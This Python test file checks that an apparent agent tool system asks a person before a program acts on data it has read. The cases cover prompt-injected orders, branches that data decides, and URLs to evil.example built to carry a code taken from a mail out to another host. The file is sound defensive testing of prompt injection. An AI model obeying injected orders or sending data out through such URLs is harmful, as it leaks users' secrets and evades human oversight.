"""A call of a program asks a person if the program has read foreign data and the arguments may come from it.

The cases are those of ``tests/server/features/agents/foreign_data.json``. The programs are obedient: they call what the
data orders.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest
from tests.registry_fixture import FixedModel, FixedStore, RegistryFixture, passage
from tests.server.features.agents.test_foreign_data import CASES, MAX_STOPPED_TASKS
from tests.server.features.tools.code_mode.conftest import CodeFixture

from portico.wire import Asked
from portico_server.core.context import Context
from portico_server.core.principal import LOCAL
from portico_server.core.request import ToolCall, ToolResult
from portico_server.features.tools.code_mode.expected_calls import expected_calls
from portico_server.features.tools.entry import Approval, Rule
from portico_server.features.tools.tool import Tool
from portico_server.features.tools.toolbox import Toolbox


class ProgramDesk:
    """Runs programs with the tools of one app. It records the calls of acting tools, and the questions to a person."""

    def __init__(self, daemon: RegistryFixture, rule: Rule = "data") -> None:
        self.daemon = daemon
        self.document = "nothing new"
        self.acted: list[tuple[str, Mapping[str, Any]]] = []
        self.asked: list[Asked] = []
        self._toolbox = Toolbox(daemon.registry, approval=Approval(rule))
        self.add("now", read_only=True, computed=True)

    def offer(self, app: Mapping[str, Any]) -> None:
        """Add the tools of an app."""
        self.add(app["read"], read_only=True)
        for name in app["acts"]:
            self.add(name, read_only=False)

    def add(self, name: str, *, read_only: bool, computed: bool = False) -> None:
        async def work(arguments: Mapping[str, Any], _context: Context) -> ToolResult:
            if read_only:
                return ToolResult(arguments.get("text") or self.document)
            self.acted.append((name, arguments))
            return ToolResult("done")

        tool = Tool(
            name, "", "", {"type": "object"}, work, read_only=read_only, computed=computed, source="mcp:desk"
        )
        self._toolbox.add(tool, "", replace=True)

    async def run(self, code: str, *, accepted: bool = False) -> str:
        """Return the text of the program's result. A person answers each question with ``accepted``."""
        self.asked.clear()
        self.acted.clear()
        run = await self.daemon.runner.start("test", "tool/run_code", ToolCall({"code": code}), LOCAL)
        async for _number, event in run.log.follow():
            if isinstance(event, Asked):
                self.asked.append(event)
                await self.daemon.questions.answer(event.id, LOCAL, is_accepted=accepted)
        result = await self.daemon.runner.wait(run)
        assert isinstance(result, ToolResult)
        return result.text


@pytest.fixture
async def desk(daemon: CodeFixture) -> ProgramDesk:
    desk = ProgramDesk(daemon.daemon)
    desk.offer(CASES["apps"]["mail"])
    return desk


OBEY = """
import json

text = {read}
order = json.loads(portico.models.voice(messages=[{{"role": "user", "content": str(text)}}]))
{{{acts}}}[order["name"]](**order["arguments"])
"""

READS = (
    "portico.tools.{}()",
    "portico.stores.my_docs.search(query='news')",
    "portico.apps.my_docs(input='News?')",
)
"""How a program can read the document of a case."""


async def test_none_of_60_injected_orders_acts_in_a_program_without_a_person(
    desk: ProgramDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    silent, acted = [], []
    for number, case in enumerate(CASES["attacks"]):
        app, (name, arguments) = CASES["apps"][case["app"]], case["order"]
        desk.offer(app)
        desk.document = case["text"]
        desk.daemon.registry.add(FixedModel(json.dumps({"name": name, "arguments": arguments})), replace=True)
        search_store = FixedStore("my-docs", [passage(1, case["text"], "handbook.pdf")])
        desk.daemon.registry.add(search_store, replace=True)
        acts = ", ".join(f"{act!r}: portico.tools.{act}" for act in app["acts"])
        await desk.run(OBEY.format(read=READS[number % 3].format(app["read"]), acts=acts))
        acted += desk.acted
        if len(desk.asked) != 1 or "Portico asks because of " not in desk.asked[0].message:
            silent.append(case["text"])
    with capsys.disabled():
        print(f"\nInjected orders that a program obeyed without a person: {len(acted)} of 60")
    assert (acted, silent) == ([], [])


async def test_at_most_two_of_60_harmless_programs_need_an_approval(
    desk: ProgramDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    stopped_tasks = []
    for case in CASES["tasks"]:
        app = CASES["apps"][case["app"]]
        desk.offer(app)
        lines = []
        for call in case["calls"]:
            if call == "read":
                lines.append(f"text = portico.tools.{app['read']}()")
            elif call == "search":
                lines.append("portico.stores.my_docs.search(query='rule')")
            else:
                arguments = {
                    name: "str(text)" if case.get("from_data") else repr(value)
                    for name, value in call[1].items()
                }
                lines.append(
                    f"portico.tools.{call[0]}({', '.join(f'{k}={v}' for k, v in arguments.items())})"
                )
        if case.get("file"):
            lines.insert(0, "text = portico.stores.my_docs.search(query='file')")
        await desk.run("\n".join(lines))
        if desk.asked or desk.acted != [
            (call[0], call[1]) for call in case["calls"] if not isinstance(call, str)
        ]:
            stopped_tasks.append(case["task"])
    with capsys.disabled():
        print(
            f"\nPrograms without injected orders that were stopped: {len(stopped_tasks)} of {len(CASES['tasks'])}"
        )
    assert stopped_tasks == [case["task"] for case in CASES["tasks"] if case.get("from_data")]
    assert len(stopped_tasks) <= MAX_STOPPED_TASKS


READ = "text = portico.tools.read_mail()\n"
FIND = "found = portico.stores.my_docs.search(query='port')\n"
ASK = "said = portico.models.voice(messages=[{'role': 'user', 'content': text}])\n"
FAIL = "try:\n    portico.tools.fail()\nexcept RuntimeError as error:\n    "
WRITE = "portico.tools.send_mail(to={}, text='hi')"


@pytest.mark.parametrize(
    ("code", "origins"),
    [
        (READ + WRITE.format("text"), "tool read_mail"),
        (READ + WRITE.format("text[:4]"), "tool read_mail"),
        (READ + "portico.tools.send_mail(**{text: 'hi'})", "tool read_mail"),
        (READ + "portico.tools.send_mail(to='ann', text=['hi', {'a': text}])", "tool read_mail"),
        (FIND + WRITE.format("found[0]['text']"), "guide.md, line 1 · Ports"),
        ("found = portico.apps.my_docs(input='port')\n" + WRITE.format("found['answer']"), "app my-docs"),
        (FAIL + WRITE.format("str(error)"), "tool fail"),
        (READ + ASK + WRITE.format("said"), "tool read_mail"),
        (WRITE.format("'ann'") + "\n" + READ + WRITE.format("text"), "tool send_mail; tool read_mail"),
        (WRITE.format("'ann'") + "\n" + READ + WRITE.format("'ann'"), ""),
        (READ + WRITE.format("'ann'"), ""),
        (READ + "for name in ('ann', 'bob'):\n    " + WRITE.format("name"), ""),
        (READ + "args = {'to': 'ann', 'text': '''a\nb'''}\nportico.tools.send_mail(**args)", ""),
        (READ + "portico.tools.send_mail(to='a' 'b', text=[-1, 2.5, True, None])", ""),
        (READ + "portico.tools.send_mail(to=str(portico.tools.now()), text='hi')", ""),
        ("portico.tools.send_mail(to=str(portico.tools.now()), text='hi')", ""),
        ("text = 'Hi'\n" + ASK + WRITE.format("said"), ""),
        (WRITE.format("'a' + 'nn'") + "\n" + READ, ""),
    ],
)  # fmt: skip
async def test_the_question_names_the_data_that_the_program_has_read(
    desk: ProgramDesk, code: str, origins: str
) -> None:
    await desk.run(code)
    because = [question.message.partition(" because of ")[2].rstrip(".") for question in desk.asked]
    assert because == ([origins] if origins else [])
    assert len(desk.acted) + len(desk.asked) == code.count("send_mail") + code.count("'bob'")


@pytest.mark.parametrize(
    ("rule", "accepted", "questions", "sent"),
    [("data", True, 1, 1), ("data", False, 1, 0), ("refuse", True, 0, 0), ("never", False, 0, 1)],
)
async def test_the_approval_rule_of_a_tool_decides_about_calls_after_foreign_data(
    daemon: CodeFixture, rule: Rule, accepted: bool, questions: int, sent: int
) -> None:
    desk = ProgramDesk(daemon.daemon, rule)
    desk.offer(CASES["apps"]["mail"])
    text = await desk.run(READ + WRITE.format("text"), accepted=accepted)
    assert (len(desk.asked), len(desk.acted)) == (questions, sent)
    assert ("because of tool read_mail" in text) is (rule == "refuse")


CLEAR = "def clear(_):\n    if 'no' in text:\n        orders.clear()\n    return ''\n"
PAY = "portico.tools.send_mail(to='ann', text='{}')"
ORDERS = "orders = ['a', 'b']\n"

DECIDED_BY_DATA = [
    "if 'yes' in text:\n    {pay}",
    "if not text: pass\nelse:\n    {pay}",
    "if text.startswith('y') or False:\n    {pay}",
    "while 'yes' in text:\n    {pay}\n    break",
    "for _ in text:\n    {pay}",
    "for word in text.split():\n    if word == 'yes':\n        {pay}",
    "'yes' in text and {pay}",
    "'no' in text or {pay}",
    "{pay} if 'yes' in text else None",
    "[{pay} for word in text.split() if word == 'yes']",
    "[{pay} for _ in range(len(text))]",
    "calls = ({pay} for _ in [1])\nif 'yes' in text:\n    list(calls)",
    "any('no' in text or {pay} for _ in [1])",
    "try:\n    text.index('yes')\n    {pay}\nexcept ValueError:\n    pass",
    "try:\n    text.index('no')\nexcept ValueError:\n    {pay}",
    "try:\n    text.index('yes')\nexcept ValueError:\n    pass\nelse:\n    {pay}",
    "try:\n    assert 'yes' in text\n    {pay}\nexcept AssertionError:\n    pass",
    "def check():\n    return text.index('yes')\ntry:\n    check()\n    {pay}\nexcept ValueError:\n    pass",
    "def check():\n    if 'no' in text:\n        raise ValueError('no')\n"
    "try:\n    check()\n    {pay}\nexcept ValueError:\n    pass",
    "assert 'yes' in text\n{pay}",
    "if 'yes' not in text:\n    raise ValueError('no')\n{pay}",
    "for _ in [1]:\n    if 'yes' not in text:\n        break\n    {pay}",
    "for _ in [1]:\n    if 'yes' not in text:\n        continue\n    {pay}",
    "def go():\n    if 'yes' not in text:\n        return\n    {pay}\ngo()",
    "def go():\n    {pay}\nif 'yes' in text:\n    go()",
    "pay = lambda: {pay}\nif 'yes' in text:\n    pay()",
    "{{True: lambda: {pay}, False: lambda: None}}['yes' in text]()",
    "[lambda: None, lambda: {pay}]['yes' in text]()",
    "amount = 'hi' if 'yes' in text else 'no'\nportico.tools.send_mail(to='ann', text=amount)",
    "amount = 'no'\nif 'yes' in text:\n    amount = 'hi'\nportico.tools.send_mail(to='ann', text=amount)",
    "orders = []\nif 'yes' in text:\n    orders.append(1)\nfor _ in orders:\n    {pay}",
    "orders = []\nalias = [orders]\nif 'yes' in text:\n    alias[0].append(1)\nfor _ in orders:\n    {pay}",
    "orders = []\nx = None\nif 'yes' in text:\n    x = orders\n    x += [1]\nfor _ in orders:\n    {pay}",
    "flags = {{'pay': False}}\nif 'yes' in text:\n    flags['pay'] = True\nif flags['pay']:\n    {pay}",
    "def add(items):\n    items.append(1)\norders = []\nif text:\n    add(orders)\nfor _ in orders:\n    {pay}",
    "orders = []\n[3].sort(key=lambda _: orders.append(1) if text else 0)\nfor _ in orders:\n    {pay}",
    "str = lambda _: text\nportico.tools.send_mail(to='ann', text=str('no'))",
    "def str(_):\n    return text\nportico.tools.send_mail(to='ann', text=str('no'))",
    "len = lambda _: 'yes' in text\nif len([1]):\n    {pay}",
    "{pay}\nif 'yes' in text:\n    {pay}",
    "count = 0\nwhile count < len(text):\n    {pay}\n    count += 1",
    "n = 0\nfor _ in text:\n    n += 1\nfor _ in range(n):\n    {pay}",
    "portico.tools.send_mail(to='ann', text='h' + text[1])",
    "portico.tools.send_mail(to='ann', text=f'h{{text[1]}}')",
    "portico.tools.send_mail(to='ann', **{{'text' if text else 'to': 'hi'}})",
    "(portico.tools.send_mail if 'yes' in text else portico.tools.now)(to='ann', text='hi')",
    "later = (orders.clear() for _ in [1] if 'no' in text)\norders = [1]\nlist(later)\nfor _ in orders:\n    {pay}",
    CLEAR + "later = map(clear, [1])\norders = [1]\nlist(later)\nfor _ in orders:\n    {pay}",
    CLEAR + "orders, x = [1], [1]\nx.sort(key=clear)\nfor _ in orders:\n    {pay}",
    CLEAR + "orders = [1]\n@clear\ndef f():\n    pass\nfor _ in orders:\n    {pay}",
    "orders = [1]\ndef f(*_, x=orders.clear() if 'no' in text else 0):\n    pass\nfor _ in orders:\n    {pay}",
    "try:\n    text.index('yes') if text else 0\n    {pay}\nexcept ValueError:\n    pass",
    "try:\n    if text:\n        text.index('yes')\n    {pay}\nexcept ValueError:\n    pass",
    "def go():\n    def check():\n        if 'yes' not in text:\n            raise ValueError('no')\n    check()\n"
    "go()\n{pay}",
    "o = 'hi' if 'yes' in text else 'no'\ndef get():\n    return o\n"
    "[portico.tools.send_mail(to='ann', text=get()) for o in ['hi']]",
]
"""What a program does with a mail ``text`` that says "yes hi". Data decides whether it writes to Ann."""


@pytest.mark.parametrize("code", DECIDED_BY_DATA)
async def test_a_call_on_which_data_decides_asks_a_person(desk: ProgramDesk, code: str) -> None:
    desk.document = "yes hi"
    count = int(code.startswith("{pay}\nif"))
    await desk.run(READ + code.format(pay=PAY.format("hi")))
    assert len(desk.acted) <= count
    assert desk.asked


CERTAIN = [
    ("for i in range(19):\n    portico.tools.send_mail(to='o' + str(i), text='hi')", 19),
    ("for i in range(19):\n    portico.tools.send_mail(to=f'order {i:02d}', text='hi')", 19),
    ("for i, o in enumerate(orders):\n    portico.tools.send_mail(to=o, text=f'{i}. {o}')", 2),
    ("for o in orders:\n    portico.tools.send_mail(to=o.upper(), text='hi')", 2),
    ("for o, n in zip(orders, (1, 2)):\n    portico.tools.send_mail(to=o, text=n + 1)", 2),
    ("for o, n in {'a': 1, 'b': 2}.items():\n    portico.tools.send_mail(to=o, text=n * 10)", 2),
    ("[portico.tools.send_mail(to=o, text='hi') for o in orders]", 2),
    ("[portico.tools.send_mail(to=o, text='hi') for o in orders if o != 'a']", 1),
    ("portico.tools.send_mail(to='ann', text=', '.join(f'<{o}>' for o in []) + ', '.join(orders))", 1),
    ("portico.tools.send_mail(to='ann', text={'all': [o + '!' for o in orders]})", 1),
    ("portico.tools.send_mail(**{'to': 'ann', 'text': {o: len(o) for o in orders}})", 1),
    ("more = []\nfor o in orders:\n    more.append(o + '1')\nfor o in more:\n    "
     "portico.tools.send_mail(to=o, text='hi')", 2),
    ("def send(to, text='hi'):\n    return portico.tools.send_mail(to=to, text=text)\nsend('ann')\nsend(to='bob')", 2),
    ("send = portico.tools.send_mail\nsend(to='ann', text='hi')\nsend(to='ann', text='hi')", 2),
    ("n = 0\nwhile n < 3:\n    n += 1\n    portico.tools.send_mail(to='ann', text=n)", 3),
    ("if len(orders) == 2:\n    portico.tools.send_mail(to='ann', text='hi')", 1),
    ("print(text)\nif 'urgent' in text:\n    print('urgent')\nfor o in orders:\n    "
     "portico.tools.send_mail(to=o, text='hi')", 2),
    ("notes = []\nfor line in text.splitlines():\n    notes.append(line.strip())\nfor o in orders:\n    "
     "portico.tools.send_mail(to=o, text='hi')", 2),
    ("report = ''\nfor line in text.splitlines():\n    report += line\nfor o in orders:\n    "
     "portico.tools.send_mail(to=o, text='hi')", 2),
    ("for o in orders:\n    try:\n        portico.tools.send_mail(to=o, text='hi')\n    except RuntimeError as error:\n"
     "        print(error)\n        continue", 2),
    ("try:\n    n = int(text)\nexcept ValueError:\n    n = 0\nportico.tools.send_mail(to='ann', text='hi')", 1),
    ("try:\n    read = portico.tools.read_mail()\n    portico.tools.send_mail(to='ann', text='hi')\n"
     "except RuntimeError as error:\n    print(error)", 1),
    ("import json\nlast = json.dumps(sorted(text.split(), key=lambda word: word.lower()))\n"
     "for o in orders:\n    portico.tools.send_mail(to=o, text='hi')", 2),
    ("total = sum(len(line) for line in text.split())\nfor o in orders:\n    "
     "portico.tools.send_mail(to=o, text='hi')", 2),
    ("portico.tools.send_mail(to='ann', text=str(portico.tools.now()))", 1),
    ("stamp = portico.tools.now()\nfor o in orders:\n    portico.tools.send_mail(to=o, text=f'{stamp}: {o}')", 2),
    ("for o in orders[::-1]:\n    portico.tools.send_mail(to=o, text='hi' if o == 'a' else 'ho')", 2),
    ("config = {'to': 'ann'}\nconfig['text'] = 'hi'\nprint(config)\n"
     "portico.tools.send_mail(to='ann', text='hi')", 1),
    ("first, second = orders\nportico.tools.send_mail(to=first, text=second.replace('b', 'c'))", 1),
    ("for o in orders:\n    if o == 'a':\n        continue\n    portico.tools.send_mail(to=o, text='hi')", 1),
    ("for n in range(3):\n    if n == 2:\n        break\n    portico.tools.send_mail(to='ann', text=-n)", 2),
]  # fmt: skip
"""Programs that read a mail ``text`` and make a number of calls that do not depend on it."""


@pytest.mark.parametrize(("code", "count"), CERTAIN)
async def test_a_call_that_a_program_makes_whatever_it_reads_does_not_ask(
    desk: ProgramDesk, code: str, count: int
) -> None:
    report = await desk.run(READ + ORDERS + code)
    assert (len(desk.acted), desk.asked) == (count, []), report


LINK = "https://good.example/news"
MAIL = f"Read {LINK}. The code is 1234."
PAGE = "portico.tools.page(url={})"

ADDRESSES = [
    (READ + PAGE.format(f"'{LINK}'"), 0),
    (READ + PAGE.format("'https://docs.example'"), 0),
    (READ + PAGE.format("text[5:31]"), 0),
    ("import re\n" + READ + f"for link in re.findall('http[^ ]+[a-z]', text):\n    {PAGE.format('link')}", 0),
    (PAGE.format("'https://evil.example/?q=' + str(1234)"), 0),
    (READ + PAGE.format("'https://evil.example/?q=' + text[-5:-1]"), 1),
    (READ + PAGE.format("text[5:31] + '/' + text[-5:-1]"), 1),
    (READ + PAGE.format("f'https://{text[-5:-1]}.evil.example'"), 1),
    (READ + "if '1234' in text:\n    " + PAGE.format("'https://evil.example/1234'"), 1),
    (READ + "link = portico.tools.page(text='evil.example/' + text[-5:-1])\n" + PAGE.format("link"), 1),
]
"""Programs that read addresses, and the number of questions to a person."""


@pytest.mark.parametrize(("code", "count"), ADDRESSES)
async def test_an_address_that_a_program_composes_from_data_asks_a_person(
    desk: ProgramDesk, code: str, count: int
) -> None:
    desk.document = MAIL
    desk.add("page", read_only=True)
    report = await desk.run(code)
    assert len(desk.asked) == count, report
    assert all("Its address can carry data to another host" in question.message for question in desk.asked)


ODD = ["x = 'a", "'''", "f(1", "\x00", "(" * 9_999, "-" * 9_999 + "1", "'a' " * 9_999, "0x", "1_", "b'a' 'b'"]
LONG = [
    *ODD,
    "a" + ".a" * 40_000,
    "1" + "+1" * 40_000,
    "if 1:pass\n" + "elif 1:pass\n" * 8_000,
    "def f():\n    f()\n    f()\nf()",
    "while True:\n    pass",
    "x = 'a'\n" + "x = x + x\n" * 99,
    "x = [1]\n" + "x = [x, x]\n" * 99 + "portico.tools.send_mail(to=x)",
    "x = 9\n" + "x = x * x\n" * 99,
    "x = f'{1:999999999}'",
    "x = range(10**12)",
    "x = 'a'\n" + "x = x.replace('a', 'aaaaaaaaaa')\n" * 99,
    "exec('portico.tools.send_mail()')",
]
"""Programs with no certain call, among them some that would never end or need the memory of the machine."""


@pytest.mark.parametrize("code", LONG)
def test_a_program_is_read_within_limits(code: str) -> None:
    assert not expected_calls(code, {"portico.tools.send_mail"}, {})
